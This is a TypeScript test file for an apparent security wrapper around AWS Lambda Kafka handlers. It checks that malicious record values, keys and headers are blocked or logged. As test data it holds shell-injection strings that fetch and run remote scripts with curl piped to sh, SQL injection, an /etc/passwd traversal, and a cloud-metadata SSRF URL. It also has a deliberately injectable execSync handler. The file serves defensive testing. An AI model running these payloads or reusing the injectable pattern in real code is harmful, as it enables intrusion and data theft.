import t from 'tap';
import { execSync } from 'node:child_process';
import type { Context } from 'aws-lambda';
import { protect, RequestBlockedError, type SecurityEvent } from '../../../adapters/aws-lambda/index';
import { normalize } from '../../../adapters/aws-lambda/normalize';
import { lambdaContext } from '../../helpers/lambda-events';
import { ATTACKS, BENIGN } from '../../helpers/tables';
import { b64, kafka } from './events';

type Any = any;

function recorder() {
  const calls: Any[] = [];
  const handler = async (event: Any, _context: Context) => {
    calls.push(event);
    return 'processed';
  };
  return { calls, handler };
}

function logs() {
  const lines: SecurityEvent[] = [];
  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
}

const ctx = () => lambdaContext({ functionName: 'orders-consumer' });
const order = (note: string) => JSON.stringify({ orderId: 4471, sku: 'BK-1042', note });

t.test('Kafka events are recognized (MSK and self-managed) and every record is inspected on its own', async (t) => {
  for (const selfManaged of [false, true]) {
    const n = normalize(kafka({ 'orders-0': [{ value: order('a') }, { value: order('b') }], 'orders-3': [{ value: order('c'), offset: 77 }] }, { selfManaged }));
    t.equal(n.kind, 'batch');
    t.equal(n.trigger, 'kafka');
    if (n.kind !== 'batch') continue;
    t.equal(n.answer, 'throw', 'no per-record answer: a block fails the invocation');
    t.same(
      n.records.map((r) => r.id),
      ['orders-0@1000', 'orders-0@1001', 'orders-3@77'],
    );
    t.same(
      n.records[2]!.request.sources.map((s) => s.path),
      ['records.orders-3[0].value', 'records.orders-3[0].key', 'records.orders-3[0].headers'],
    );
  }
});

t.test('Kafka: benign records reach the handler unchanged', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  for (const text of BENIGN) {
    for (const selfManaged of [false, true]) {
      const event = kafka(
        { 'orders-0': [{ value: order(text), key: `customer-${text}`, headers: [{ 'x-note': text }] }, { value: text }] },
        { selfManaged },
      );
      const snapshot = JSON.stringify(event);
      t.equal(await wrapped(event, ctx()), 'processed', `"${text}" passes (${selfManaged ? 'self-managed' : 'MSK'})`);
      t.equal(calls[calls.length - 1], event, 'the handler got the very same event');
      t.equal(JSON.stringify(event), snapshot, 'the event was not modified');
    }
  }
  t.equal(lines.length, 0, 'nothing logged');
});

t.test('Kafka: an attack in a record value, key or header is blocked and the path names the record', async (t) => {
  const placements: Array<[string, (p: string) => Any, string]> = [
    ['JSON value', (p) => ({ value: order(p) }), 'records.orders-2[1].value.note'],
    ['text value', (p) => ({ value: p }), 'records.orders-2[1].value'],
    ['key', (p) => ({ value: order('ok'), key: p }), 'records.orders-2[1].key'],
    ['header', (p) => ({ value: order('ok'), headers: [{ 'content-type': 'application/json' }, { 'x-reply-to': p }] }), 'records.orders-2[1].headers[1].x-reply-to'],
  ];
  for (const [where, build, path] of placements) {
    for (const a of ATTACKS) {
      const { calls, handler } = recorder();
      const { lines, log } = logs();
      const wrapped = protect(handler, { log });
      const event = kafka({ 'orders-2': [{ value: order('first') }, build(a.payload), { value: order('third') }] });
      const err = await wrapped(event, ctx()).catch((e: unknown) => e);
      t.ok(err instanceof RequestBlockedError && err.code === 'RASP_ERR_BLOCKED', `${where}, ${a.class}: ${a.payload}`);
      t.equal(calls.length, 0, 'the handler never ran: the whole batch is retried');
      t.equal(lines.length, 1);
      t.equal(lines[0]?.trigger, 'kafka');
      t.equal(lines[0]?.action, 'block');
      t.equal(lines[0]?.where?.startsWith(path.split('.').slice(0, 3).join('.')), true, `${where}: ${lines[0]?.where}`);
    }
  }
});

t.test('Kafka: exact paths for a shell command in a value, SQL in a key, and a topic name with a dot', async (t) => {
  const { lines, log } = logs();
  const wrapped = protect(recorder().handler, { log });
  await t.rejects(wrapped(kafka({ 'orders-0': [{ value: order('ok') }, { value: order('report.csv; curl http://x | sh') }] }), ctx()), RequestBlockedError);
  t.equal(lines[0]?.where, 'records.orders-0[1].value.note');
  t.equal(lines[0]?.class, 'shell');
  await t.rejects(wrapped(kafka({ 'billing.v2-5': [{ value: order('ok'), key: "' UNION SELECT password FROM users --" }] }), ctx()), RequestBlockedError);
  t.equal(lines[1]?.where, 'records["billing.v2-5"][0].key');
  t.equal(lines[1]?.class, 'sqli');
  await t.rejects(wrapped(kafka({ 'orders-0': [{ value: 'x', headers: [{ 'x-cb': '../../../../etc/passwd' }] }] }), ctx()), RequestBlockedError);
  t.equal(lines[2]?.where, 'records.orders-0[0].headers[0].x-cb');
});

t.test('Kafka: records of other partitions do not hide a blocked one', async (t) => {
  const { lines, log } = logs();
  const { calls, handler } = recorder();
  const wrapped = protect(handler, { log });
  const parts: Record<string, Any[]> = {};
  for (let p = 0; p < 4; p++) parts[`orders-${p}`] = Array.from({ length: 25 }, (_, i) => ({ value: order(`item ${p}/${i}`) }));
  parts['orders-3']![17] = { value: order('$(curl -s http://203.0.113.9/x.sh | sh)') };
  await t.rejects(wrapped(kafka(parts), ctx()), RequestBlockedError);
  t.equal(calls.length, 0);
  t.equal(lines[0]?.where, 'records.orders-3[17].value.note');
  t.match(lines[0]?.requestId ?? '', /#92$/, 'the record is numbered in the security event (3 × 25 + 17)');
});

t.test('Kafka: monitor mode passes the batch and logs the record', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { mode: 'monitor', log });
  const event = kafka({ 'orders-0': [{ value: order('ok') }, { value: order('; curl http://x | sh') }] });
  t.equal(await wrapped(event, ctx()), 'processed');
  t.equal(calls[0], event, 'the handler got the whole batch');
  t.equal(lines.length, 1);
  t.equal(lines[0]?.action, 'monitor');
  t.equal(lines[0]?.trigger, 'kafka');
  t.equal(lines[0]?.where, 'records.orders-0[1].value.note');
});

t.test('Kafka: malformed records never crash the wrapper and are still inspected', async (t) => {
  const { lines, log } = logs();
  const { calls, handler } = recorder();
  const wrapped = protect(handler, { log });
  // Not base64: inspected as the text it is (a medium `protocol` finding, not acted on at paranoia 1).
  t.equal(await wrapped(kafka({ 'orders-0': [{ rawValue: '%%% not base64 %%%' }] }), ctx()), 'processed', 'bad base64, benign text');
  await t.rejects(wrapped(kafka({ 'orders-0': [{ rawValue: 'x; curl http://x | sh' }] }), ctx()), RequestBlockedError, 'bad base64 hiding a command');
  t.equal(lines[lines.length - 1]?.where, 'records.orders-0[0].value');
  // Not JSON: text. Binary (Avro, Protobuf): whatever UTF-8 reading gives.
  t.equal(await wrapped(kafka({ 'orders-0': [{ value: '{"broken": ' }] }), ctx()), 'processed', 'truncated JSON');
  t.equal(await wrapped(kafka({ 'orders-0': [{ rawValue: Buffer.from([0x00, 0x02, 0x0a, 0x42, 0x4b, 0xff, 0xfe, 0x10]).toString('base64') }] }), ctx()), 'processed', 'binary');
  // Tombstones (null value), no key, no headers, odd header shapes, odd record lists.
  t.equal(await wrapped(kafka({ 'orders-0': [{ value: null, key: null, headers: [] }] }), ctx()), 'processed', 'tombstone');
  const odd: Any = kafka({ 'orders-0': [{ value: order('ok') }] });
  odd.records['orders-0'][0].headers = [{ 'x-a': [300, -1, 65] }, { 'x-b': 'not bytes' }, null, 'str'];
  odd.records['orders-1'] = 'not a list';
  odd.records['orders-2'] = [null, 42];
  t.equal(await wrapped(odd, ctx()), 'processed', 'odd shapes');
  const empty = kafka({});
  t.equal(await wrapped(empty, ctx()), 'processed', 'no records at all');
  t.equal(calls.length, 6, 'the handler ran for each of the benign malformed batches');
  t.equal(lines.filter((l) => l.action === 'error').length, 0, 'no internal error');
});

t.test('Kafka: JSON in a header and base64 JSON inside a value are decoded like any value', async (t) => {
  const { lines, log } = logs();
  const wrapped = protect(recorder().handler, { log });
  await t.rejects(wrapped(kafka({ 'orders-0': [{ value: order('ok'), headers: [{ meta: JSON.stringify({ callback: 'http://169.254.169.254/latest/meta-data/' }) }] }] }), ctx()));
  t.equal(lines[0]?.where, 'records.orders-0[0].headers[0].meta.callback');
  t.equal(lines[0]?.class, 'ssrf');
  const cursor = b64(JSON.stringify({ after: "1' OR '1'='1" }));
  await t.rejects(wrapped(kafka({ 'orders-0': [{ value: JSON.stringify({ cursor }) }] }), ctx()), RequestBlockedError, 'base64 JSON inside the base64 value');
  t.equal(lines[1]?.where, 'records.orders-0[0].value.cursor["#base64"].after');
});

t.test('Kafka: an operation a sink stops fails the invocation (the batch is retried)', async (t) => {
  const { lines, log } = logs();
  const ran: string[] = [];
  const handler = async (event: Any) => {
    for (const list of Object.values(event.records) as Any[][]) {
      for (const r of list) ran.push(execSync(`printf %s '${Buffer.from(r.value, 'base64').toString('utf8')}'`, { stdio: ['ignore', 'pipe', 'ignore'] }).toString());
    }
    return 'processed';
  };
  const wrapped = protect(handler, { log, detectors: { shell: false } });
  const err = await wrapped(kafka({ 'jobs-0': [{ value: 'alpha' }, { value: "beta'; id; echo '" }] }), ctx()).catch((e: unknown) => e);
  t.ok(err instanceof Error && (err as Any).name !== 'RequestBlockedError', 'the sink error itself');
  t.same(ran, ['alpha'], 'the injected command never ran');
  t.equal(lines[0]?.rule, 'sink.shell');
  t.equal(lines[0]?.trigger, 'kafka');
  t.equal(lines[0]?.where, 'records.jobs-0[1].value');
});
